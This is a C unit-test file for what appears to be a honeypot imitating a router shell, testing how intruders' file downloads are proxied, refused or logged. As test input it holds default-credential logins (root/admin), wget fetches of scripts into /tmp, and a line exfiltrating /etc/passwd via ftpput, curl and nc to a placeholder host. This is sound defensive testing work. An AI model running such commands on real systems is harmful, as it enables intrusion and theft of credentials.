/* What visitors want fetched, by each policy: somebody else fetches it, nothing is reachable, or it is only noted. */
#include "trap/test-play.h"

#include "shell/hook.h"

struct asked {
    unsigned n;
    uint64_t session;
    char url[256];
    bool refuses;
};
static struct asked asked;

static uint64_t ask(void *context, uint64_t session, const struct shell_fetch *what)
{
    (void)context;
    if (asked.refuses)
        return 0;
    asked.session = session;
    snprintf(asked.url, sizeof asked.url, "%s", what->url);
    return ++asked.n;
}

static void visit(struct play *p, const char *name)
{
    const struct persona *persona = play_persona("bcm4716-router");
    play_init(p, name);
    asked = (struct asked){ 0 };
    p->world.ask = ask;
    play_visit(p, persona, 0xc0000201, 0xcb007105);
    type(p, "root\r\n", 6);
    type(p, "admin\r\n", 7);
    p->said_at = p->said.len;
}

static void send(struct play *p, const char *line)
{
    type(p, line, strlen(line));
}

static void expect(struct play *p, const char *words)
{
    if (!seen_next(p, words))
        fail_at(p, "not seen", words);
}

static void expect_said(struct play *p, const char *text)
{
    if (!said_next(p, text, strlen(text)))
        fail_at(p, "not said", text);
}

static void tell(struct play *p, uint64_t ticket, enum fetch_answer answer, uint64_t size)
{
    struct trap_told t = { .ticket = ticket, .answer = (uint8_t)answer, .address = "192.0.2.7", .size = size };
    memset(t.sha256, 0xab, sizeof t.sha256);
    conn_told(p->conn, &t);
    run(p);
}

static void tell_bytes(struct play *p, uint64_t ticket, const char *text)
{
    conn_told_bytes(p->conn, ticket, text, strlen(text));
    run(p);
}

/* The prompt comes when all of it is there, and the file has just that in it. */
static void the_visitor_waits_and_finds_it(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "found");
    send(&p, "cd /tmp; wget http://192.0.2.7/a.sh; cat a.sh; echo d\"\"one\r\n");
    wait_until(&p, p.now + 20 * SECOND);
    assert_int_equal(asked.n, 1);
    assert_string_equal(asked.url, "http://192.0.2.7/a.sh");
    assert_true(conn_awaits(p.conn));
    assert_false(said_next(&p, "\ndone", 5));
    tell(&p, 1, FETCH_FOUND, 13);
    tell_bytes(&p, 1, "echo he");
    assert_true(conn_awaits(p.conn));
    assert_false(said_next(&p, "\ndone", 5));
    tell_bytes(&p, 1, "llo 1\n");
    assert_false(conn_awaits(p.conn));
    expect_said(&p, "192.0.2.7:80");
    expect_said(&p, "echo hello 1");
    expect_said(&p, "done");
    expect(&p, "download applet=wget url=http://192.0.2.7/a.sh outcome=fetched size=13");
    play_release(&p);
}

static const struct {
    enum fetch_answer answer;
    const char *said, *seen;
} failures[] = {
    { FETCH_MISSING, "404", "download outcome=missing" },
    { FETCH_REFUSED, "refused", "download outcome=refused" },
    { FETCH_TIMEOUT, "timed out", "download outcome=timeout" },
    { FETCH_UNREACHABLE, "unreachable", "download outcome=unreachable" },
    { FETCH_UNRESOLVED, "bad address", "download outcome=unresolved" },
};

static void the_client_says_what_went_wrong(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof failures / sizeof *failures; i++) {
        struct play p;
        visit(&p, failures[i].seen);
        send(&p, "wget http://files.example.com/a\r\n");
        tell(&p, 1, failures[i].answer, 0);
        expect_said(&p, failures[i].said);
        expect(&p, failures[i].seen);
        play_release(&p);
    }
}

static void nobody_waits_for_ever(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "late");
    send(&p, "wget http://192.0.2.7/a; echo d\"\"one\r\n");
    wait_until(&p, p.now + 80 * SECOND);
    expect_said(&p, "timed out");
    expect_said(&p, "done");
    expect(&p, "download outcome=timeout");
    tell(&p, 1, FETCH_FOUND, 3); /* too late */
    tell_bytes(&p, 1, "abc");
    assert_false(conn_awaits(p.conn));
    play_release(&p);
}

static void who_leaves_is_told_of(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "left");
    send(&p, "wget http://192.0.2.7/a\r\n");
    play_leave(&p);
    expect(&p, "download applet=wget url=http://192.0.2.7/a host=192.0.2.7 port=80 outcome=left");
    expect(&p, "close downloads=1");
    play_release(&p);
}

/* The same thing is asked for once, however many want it; of different ones four at once. */
static void a_session_has_few_at_once(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "many");
    send(&p, "for i in 1 2 3 4 5 6; do wget -O /tmp/$i http://192.0.2.7/$i & done; wget -O /tmp/x http://192.0.2.7/1 &\r\n");
    wait_until(&p, p.now + SECOND);
    assert_int_equal(asked.n, 4);
    expect(&p, "download outcome=timeout");
    expect(&p, "download outcome=timeout");
    play_release(&p);
}

static void where_nobody_can_be_asked_it_fails(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "refuses");
    asked.refuses = true;
    send(&p, "wget http://192.0.2.7/a\r\n");
    expect_said(&p, "timed out");
    expect(&p, "download outcome=timeout");
    play_release(&p);
}

/* What a visitor would send never leaves, nor does a connection of another kind. */
static void only_files_are_asked_for(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "sent");
    send(&p, "curl -d a=b http://192.0.2.7/f; nc 192.0.2.7 99 </dev/null; ftpput -u a -p b 192.0.2.7 x /etc/passwd\r\n");
    wait_until(&p, p.now + SECOND);
    assert_int_equal(asked.n, 0);
    play_release(&p);
}

static void a_large_one_is_cut(void **state)
{
    (void)state;
    static char piece[64 << 10];
    struct play p;
    visit(&p, "large");
    memset(piece, 'x', sizeof piece - 1);
    send(&p, "wget -O - http://192.0.2.7/a | wc -c\r\n");
    tell(&p, 1, FETCH_FOUND, 30 << 20);
    for (unsigned sent = 0; sent <= TRAP_CONTENT; sent += sizeof piece - 1)
        tell_bytes(&p, 1, piece);
    assert_false(conn_awaits(p.conn));
    assert_true(conn_memory(p.conn) < 12 << 20);
    wait_until(&p, p.now + SECOND);
    expect(&p, "download outcome=fetched");
    play_release(&p);
}

static void a_device_that_reaches_nothing(void **state)
{
    (void)state;
    struct play p;
    visit(&p, "off");
    p.world.ask = NULL;
    p.world.unreachable = true;
    send(&p, "wget http://192.0.2.7/a\r\n");
    expect_said(&p, "timed out");
    expect(&p, "download url=http://192.0.2.7/a outcome=off");
    assert_int_equal(asked.n, 0);
    play_release(&p);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(the_visitor_waits_and_finds_it),
        cmocka_unit_test(the_client_says_what_went_wrong),
        cmocka_unit_test(nobody_waits_for_ever),
        cmocka_unit_test(who_leaves_is_told_of),
        cmocka_unit_test(a_session_has_few_at_once),
        cmocka_unit_test(where_nobody_can_be_asked_it_fails),
        cmocka_unit_test(only_files_are_asked_for),
        cmocka_unit_test(a_large_one_is_cut),
        cmocka_unit_test(a_device_that_reaches_nothing),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
